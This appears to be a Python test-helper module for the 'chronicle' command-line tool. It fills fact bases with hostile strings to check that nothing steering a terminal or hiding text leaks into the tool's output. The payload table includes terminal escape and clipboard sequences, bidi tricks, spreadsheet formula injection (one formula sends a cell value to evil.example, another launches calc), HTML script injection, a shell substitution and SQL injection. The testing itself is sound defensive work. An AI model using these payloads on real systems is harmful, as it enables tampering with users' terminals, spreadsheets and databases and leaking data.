"""Hostile text: a table of payloads, bases full of them, and what of them leaks into an answer."""

from __future__ import annotations

import io
import math
import re
import sys
import unicodedata
from dataclasses import dataclass
from typing import TYPE_CHECKING, Final

from chronicle.cli import stderr
from chronicle.cli.run import run
from chronicle.overrides import override

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    import pytest

PAYLOADS: Final = {
    "colour": "\x1b[5;7;45mblink\x1b[0m",
    "clear the screen": "\x1b[2J\x1b[H\x1b[3J",
    "report to the shell": "\x1b[6n\x1bP$q q\x1b\\\x1b[c",
    "title of the window": "\x1b]0;owned\x07",
    "a link, OSC 8": "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "the clipboard, OSC 52": "\x1b]52;c;ZXZpbA==\x07",
    "C1": "\x9b31mred\x9b0m \x9d0;t\x9c \x90q\x9c \x85next",
    "backspace and return": "safe\b\b\b\bevil\rover\x0b\x0c\x7f",
    "tab and line feeds": "a\tb\nc\r\nd\n\n::error::e",
    "NUL and the rest of C0": "".join(map(chr, range(32))),
    "bidi overrides": "\u202eevil\u202c \u202dx\u202c \u202ay\u202b",
    "bidi isolates and marks": "\u2066a\u2067b\u2068c\u2069 \u200e\u200f\u061c",
    "zero width": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u180eh",
    "separators": "a\u2028b\u2029c\u00a0d\u3000e",
    "tags and annotations": "\U000e0041\U000e0042 \ufff9a\ufffab\ufffb \U0001d173",
    "rich markup": "[bold red]x[/bold red] [/] [/nothing] [link=http://evil.example/]y[/link] \\[a]",
    "emoji codes": ":smile: :warning: :boom:",
    "a formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "formulas by other signs": "+1+cmd|' /C calc'!A0",
    "a formula behind blanks": "\t =1+1",
    "HTML": "</td><script>x</script> &lt; <!-- <img src=x onerror=x>",
    "Markdown": "![i](http://evil.example/i) [l](javascript:x) | `c` **b** #",
    "quotes and escapes": "\"quoted\" 'single' \\x1b \\ %s {0} {x} $(touch x) `x` %0A::error::x",
    "SQL": "'; DROP TABLE fact; --",
    "questions to SQLite": '" OR 1=1 NEAR(a b) a* -b NOT ^c col:x "',
    "a long word": "x" * 600,
    "wide characters": "漢字かな交じり文" * 8,
    "combining marks": "Z\u0300\u0301\u0302" * 30 + "e" + "\u0301" * 60,
    "nothing to see": " \u3164\u115f\u2800 ",
    "the search's own marks": "\x02mark\x03 \x1f unit\x1fseparator",
    "noncharacters": "\ufffe\uffff \U0010ffff \ue000",
}
"""Texts, by what they would do."""

SURROGATES: Final = {"bytes of argv": "\udc9b31m\udcff", "half a letter": "\udce2\udc82x"}
"""Bytes that are not UTF-8, which only a command line or a file name can hold."""

_COLOURS: Final = re.compile(r"\x1b\[(?:0|[1234]|3[0-7]|9[0-7])(?:;(?:[1234]|3[0-7]|9[0-7]))*m")
_LINKS: Final = re.compile(r"\x1b\]8;;(?:https?://good\.example/[!-~]*)?\x1b\\")


@dataclass(frozen=True)
class CommandOutput:
    """What a command wrote to stdout and stderr, which must be UTF-8, and its exit code."""

    code: int
    out: str
    err: str


class _Terminal(io.TextIOWrapper):
    @override
    def isatty(self) -> bool:
        return True


def run_command(monkeypatch: pytest.MonkeyPatch, *arguments: str, terminal: bool = False) -> CommandOutput:
    """Run a command line on streams that refuse what is no Unicode."""
    pipes = (io.BytesIO(), io.BytesIO())
    stream_type = _Terminal if terminal else io.TextIOWrapper
    out, err = (stream_type(pipe, encoding="utf-8", errors="strict", newline="") for pipe in pipes)
    with monkeypatch.context() as patch:
        patch.setattr(sys, "stdout", out)
        patch.setattr(sys, "stderr", err)
        patch.setattr(stderr, "SECONDS_BEFORE_BAR", math.inf)  # a slow machine draws its bar, with \r
        code = run(arguments)
        out.flush()
        err.flush()
    return CommandOutput(code, *(pipe.getvalue().decode("utf-8") for pipe in pipes))


def leaks(output: CommandOutput, *, csv: bool = False, coloured: bool = False) -> list[str]:
    """Every character that could steer a terminal or hide, with what stands around it."""
    out = output.out.removeprefix("\ufeff").replace("\r\n", "\n").replace("\t", " ") if csv else output.out
    if coloured:
        out = _LINKS.sub("", _COLOURS.sub("", out))
    return [
        *_steering(out),
        *_steering(output.err),
        *(line for line in output.err.split("\n") if "Traceback" in line),
    ]


def _steering(text: str) -> Iterator[str]:
    if text.replace("\n", "").isprintable():
        return
    steering = {
        letter
        for letter in set(text) - {"\n"}
        if unicodedata.category(letter) in {"Cc", "Cf", "Cs", "Zl", "Zp"}
    }
    for at, letter in enumerate(text) if steering else ():
        if letter in steering:
            yield ascii(text[max(0, at - 20) : at + 20])


def toml(text: str) -> str:
    """A text as a TOML string in which every byte is plain ASCII."""
    return (
        '"'
        + "".join(
            letter
            if letter.isascii() and letter.isprintable() and letter not in '"\\'
            else f"\\U{ord(letter):08X}"
            for letter in text
        )
        + '"'
    )


def facts(number: int, text: str) -> str:
    """An entry of every kind with the text in each of its fields; nothing in it is wrong but the text."""
    t, n = toml(text), number
    return f"""
[people.p{n}]
name = {t}
aka = [{t}, {t}]
note = {t}
[organisations.o{n}]
name = {t}
aka = [{t}]
[posts.post{n}]
title = {t}
organisation = "o{n}"
aka = [{t}]
lead = true
[sources.s{n}]
title = {t}
publisher = {t}
authors = [{t}]
url = {t}
archived = {t}
published = "2013"
[scales.scale{n}]
title = {t}
grades = [{t}, "x"]
body = {t}
[tenures.t{n}]
person = "p{n}"
post = "post{n}"
start = "2009-04"
end = "2011"
left = {t}
because = {t}
note = {t}
tags = [{t}]
sources = [{{ source = "s{n}", at = {t}, quote = {t}, says = {{ left = {t}, start = "2008" }} }}]
[inspections.i{n}]
organisation = "o{n}"
body = {t}
type = {t}
date = "2010"
scale = "scale{n}"
grade = {t}
judgement = {t}
areas = {{ {t} = {t} }}
because = {{ grade = {t} }}
sources = [{{ source = "s{n}", at = {t}, says = {{ grade = "x", judgement = {t} }} }}]
[budget.b{n}]
organisation = "o{n}"
type = "cut"
amount = 24
period = "2013/14"
for = {t}
by = {t}
sources = [{{ source = "s{n}", at = {t} }}]
[events.e{n}]
title = {t}
date = "2010-05"
category = {t}
people = ["p{n}"]
organisations = ["o{n}"]
posts = ["post{n}"]
status = "alleged"
allow = {{ S305 = {t} }}
sources = ["s{n}"]
[counts.c{n}]
what = {t}
value = 3
unit = {t}
organisation = "o{n}"
people = ["p{n}"]
date = "2012"
sources = ["s{n}"]
"""


def mistakes(number: int, text: str) -> str:
    """Entries with the text where none belongs: in ids, keys, tables, references, dates and amounts."""
    t, n = toml(text), number
    return f"""
[people.{t}]
name = "X"
[people.k{n}]
name = "X"
{t} = 1
[{t}]
a = 1
[events.bad{n}]
title = "X"
date = {t}
[events.ref{n}]
title = "X"
people = [{t}]
sources = [{t}, {{ source = "nobody", {t} = {t} }}]
because = {{ {t} = {t} }}
[budget.amount{n}]
organisation = {t}
type = {t}
amount = {t}
period = {t}
approx = {t}
[tenures.wrong{n}]
person = {{ {t} = {t} }}
length = {t}
status = {t}
allow = {{ {t} = {t} }}
[posts.seats{n}]
title = [{t}]
organisation = {t}
seats = {t}
lead = {t}
[events.{t}.{t}.{t}]
{t}.{t} = [{{ {t} = {t} }}]
"""


def write_base(root: Path, entries: str, *, title: str = "A base") -> Path:
    """A base of one file of facts beside its chronicle.toml."""
    root.mkdir()
    (root / "chronicle.toml").write_text(
        f"[chronicle]\ntitle = {toml(title)}\ndescription = {toml(title)}\n", "utf-8"
    )
    (root / "facts.toml").write_text(entries, "utf-8")
    return root


def odd_base(root: Path) -> Path:
    """A base without a mistake, every text of which is a payload."""
    return write_base(
        root,
        "".join(facts(n, text) for n, text in enumerate(PAYLOADS.values())),
        title="".join(PAYLOADS.values())[:2000],
    )


def broken_base(root: Path) -> Path:
    """A base of mistakes, with payloads for names of files too, and as they are instead of escaped."""
    base = write_base(root, "".join(mistakes(n, text) for n, text in enumerate(PAYLOADS.values())))
    for n, text in enumerate([*PAYLOADS.values(), *SURROGATES.values()]):
        raw = text.encode("utf-8", "surrogatepass")
        (base / f"raw{n}.toml").write_bytes(
            b'[events.r%d]\ntitle = "%s"\n[events.q%d] # %s\ntitle = %s\n[people.%s]\nname = "x"\n'
            % (n, raw, n, raw, raw, raw)
        )
        name = text.replace("/", "").replace("\0", "")[:40]
        folder = base / f"d{n}{name}"
        try:
            folder.mkdir()
            (folder / f"{name}.toml").write_text(
                f'[events.named{n}]\ntitle = 1\n[events.other{n}]\ntitle = "y"\n[events.twice]\ntitle = "z"',
                "utf-8",
            )
        except (OSError, UnicodeEncodeError):  # this system has no such name
            continue
    return base
